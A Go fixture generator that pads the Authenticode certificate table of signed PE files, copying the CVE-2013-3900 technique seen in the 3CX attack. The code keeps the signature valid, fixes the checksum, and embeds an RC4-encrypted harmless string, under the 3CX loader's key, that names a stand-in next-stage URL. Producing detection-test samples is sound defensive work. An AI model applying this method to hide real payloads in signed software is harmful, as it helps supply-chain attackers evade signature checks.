// Command padcert grows the Authenticode certificate table of a signed PE the way the
// CVE-2013-3900 pattern (and the 3CX d3dcompiler_47.dll) does: bytes are appended after the
// PKCS#7 blob inside the WIN_CERTIFICATE, and WIN_CERTIFICATE.dwLength and the security data
// directory's Size are increased to cover them. The Authenticode digest excludes the
// certificate table, so the signature still verifies. The PE checksum is recomputed so that
// the padding is the only anomaly.
//
// Usage: go run padcert.go IN OUT
//
// It is a fixture generator run by gen.sh on trusted input; it still checks every offset.
package main

import (
	"crypto/rc4"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
)

const (
	// minPayload is the least number of bytes appended after the PKCS#7 blob.
	minPayload = 256
	// marker opens the payload, as the 3CX loader's did.
	marker = "\xfe\xed\xfa\xce"
	// rc4Key is the key the 3CX loader used; the plaintext is harmless.
	rc4Key    = "3jB(2bsG#@c7"
	plaintext = "rollgate test payload, not malware: next stage https://cdn.mallory.invalid/p.ico "
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: padcert IN OUT")
		os.Exit(2)
	}
	in, err := os.ReadFile(os.Args[1])
	if err != nil {
		fmt.Fprintln(os.Stderr, "padcert:", err)
		os.Exit(1)
	}
	out, err := pad(in)
	if err != nil {
		fmt.Fprintf(os.Stderr, "padcert: %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
	if err := os.WriteFile(os.Args[2], out, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "padcert:", err)
		os.Exit(1)
	}
}

func pad(b []byte) ([]byte, error) {
	u16 := binary.LittleEndian.Uint16
	u32 := binary.LittleEndian.Uint32
	if len(b) < 0x40 || string(b[:2]) != "MZ" {
		return nil, errors.New("not an MZ file")
	}
	pe := int(u32(b[0x3c:]))
	if pe < 0 || pe+24 > len(b) || string(b[pe:pe+4]) != "PE\x00\x00" {
		return nil, errors.New("no PE header")
	}
	opt := pe + 24
	optSize := int(u16(b[pe+20:]))
	if opt+optSize > len(b) || optSize < 2 {
		return nil, errors.New("optional header out of range")
	}
	var ddOff, nOff int
	switch u16(b[opt:]) {
	case 0x20b: // PE32+
		ddOff, nOff = opt+112, opt+108
	case 0x10b: // PE32
		ddOff, nOff = opt+96, opt+92
	default:
		return nil, errors.New("unknown optional header magic")
	}
	if nOff+4 > opt+optSize || u32(b[nOff:]) < 5 || ddOff+5*8 > opt+optSize {
		return nil, errors.New("no security data directory")
	}
	sec := ddOff + 4*8
	certOff, certSize := int(u32(b[sec:])), int(u32(b[sec+4:]))
	if certOff == 0 || certSize < 8 || certOff+certSize != len(b) {
		return nil, fmt.Errorf("certificate table at %#x size %#x is not at the end of a %#x-byte file", certOff, certSize, len(b))
	}
	dwLength := int(u32(b[certOff:]))
	if dwLength < 8 || (dwLength+7)&^7 != certSize {
		return nil, fmt.Errorf("want exactly one WIN_CERTIFICATE, dwLength %#x table %#x", dwLength, certSize)
	}
	derLen, err := derLength(b[certOff+8 : certOff+dwLength])
	if err != nil {
		return nil, err
	}

	// Payload: marker + RC4(plaintext) repeated until at least minPayload bytes and
	// dwLength is a multiple of 8, so no alignment bytes are needed.
	keep := certOff + 8 + derLen
	n := minPayload
	for (8+derLen+n)%8 != 0 {
		n++
	}
	payload := make([]byte, 0, n)
	payload = append(payload, marker...)
	c, err := rc4.NewCipher([]byte(rc4Key))
	if err != nil {
		return nil, err
	}
	for len(payload) < n {
		chunk := []byte(plaintext)
		c.XORKeyStream(chunk, chunk)
		payload = append(payload, chunk...)
	}
	payload = payload[:n]

	out := make([]byte, 0, keep+n)
	out = append(out, b[:keep]...)
	out = append(out, payload...)
	newLen := 8 + derLen + n
	binary.LittleEndian.PutUint32(out[certOff:], uint32(newLen))
	binary.LittleEndian.PutUint32(out[sec+4:], uint32(newLen))
	binary.LittleEndian.PutUint32(out[opt+64:], checksum(out, opt+64))
	return out, nil
}

// derLength returns the length of the DER element (header + content) that opens b.
func derLength(b []byte) (int, error) {
	if len(b) < 2 || b[0] != 0x30 {
		return 0, errors.New("certificate is not a DER SEQUENCE")
	}
	l := int(b[1])
	hdr := 2
	if l&0x80 != 0 {
		k := l & 0x7f
		if k == 0 || k > 4 || 2+k > len(b) {
			return 0, errors.New("bad DER length")
		}
		l = 0
		for _, c := range b[2 : 2+k] {
			l = l<<8 | int(c)
		}
		hdr += k
	}
	if hdr+l > len(b) {
		return 0, errors.New("DER blob longer than WIN_CERTIFICATE")
	}
	return hdr + l, nil
}

// checksum is the PE image checksum (as imagehlp's CheckSumMappedFile computes it), skipping
// the 4-byte CheckSum field at off.
func checksum(b []byte, off int) uint32 {
	var sum uint64
	for i := 0; i+1 < len(b); i += 2 {
		if i == off || i == off+2 {
			continue
		}
		sum += uint64(binary.LittleEndian.Uint16(b[i:]))
		sum = (sum & 0xffff) + (sum >> 16)
	}
	if len(b)%2 == 1 {
		sum += uint64(b[len(b)-1])
		sum = (sum & 0xffff) + (sum >> 16)
	}
	sum = (sum & 0xffff) + (sum >> 16)
	return uint32(sum) + uint32(len(b))
}
